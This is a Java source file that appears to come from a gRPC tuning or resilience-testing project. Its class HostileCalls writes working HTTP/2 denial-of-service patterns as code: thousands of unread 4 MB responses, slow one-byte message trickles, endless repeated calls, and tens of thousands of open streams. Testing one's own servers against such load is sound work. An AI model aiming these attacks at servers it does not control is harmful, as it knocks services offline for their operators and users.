package dev.grpctuning.attack;

import java.io.IOException;
import java.nio.ByteBuffer;
import java.util.function.BooleanSupplier;

import dev.grpctuning.hello.v1.HelloRequest;

/** Calls on one connection that cost the server more than the client. */
final class HostileCalls {

	static final byte[] HEADERS = Http2Socket.headers("x-some", "value");

	private HostileCalls() {
	}

	static void unread(int port, BooleanSupplier goesOn) throws IOException {
		byte[] request = HelloRequest.newBuilder().setResponseBytes(4 << 20).build().toByteArray();
		try (Http2Socket socket = new Http2Socket(port).begin(0).readAll()) {
			for (int stream = 1; stream < 2000; stream += 2) {
				socket.call(stream, Http2Socket.END_HEADERS, HEADERS).message(stream, Http2Socket.END_STREAM, request);
			}
			socket.flush();
			HostileConnections.await(goesOn);
		}
	}

	static void endless(int port, BooleanSupplier goesOn) throws IOException {
		try (Http2Socket socket = Http2Socket.open(port).readAll()) {
			for (int stream = 1; stream < 200; stream += 2) {
				socket.call(stream, Http2Socket.END_HEADERS, HEADERS)
					.frame(Http2Socket.DATA, 0, stream, ByteBuffer.allocate(5).putInt(1, 1 << 20).array());
			}
			socket.flush();
			while (goesOn.getAsBoolean()) {
				for (int stream = 1; stream < 200; stream += 2) {
					socket.frame(Http2Socket.DATA, 0, stream, new byte[1]);
				}
				socket.flush();
				HostileConnections.pause();
			}
		}
	}

	static void repeat(int port, BooleanSupplier goesOn, byte[] headers, byte[] message) throws IOException {
		try (Http2Socket socket = Http2Socket.open(port).readAll()) {
			for (int stream = 1; goesOn.getAsBoolean(); stream += 2) {
				socket.call(stream, Http2Socket.END_HEADERS, headers)
					.message(stream, Http2Socket.END_STREAM, message)
					.flush();
				HostileConnections.pause();
			}
		}
	}

	static void tooMany(int port, BooleanSupplier goesOn) throws IOException {
		try (Http2Socket socket = Http2Socket.open(port).readAll()) {
			for (int stream = 1; stream < 20_000; stream += 2) {
				socket.call(stream, Http2Socket.END_HEADERS, HEADERS);
			}
			socket.flush();
			HostileConnections.await(goesOn);
		}
	}

}
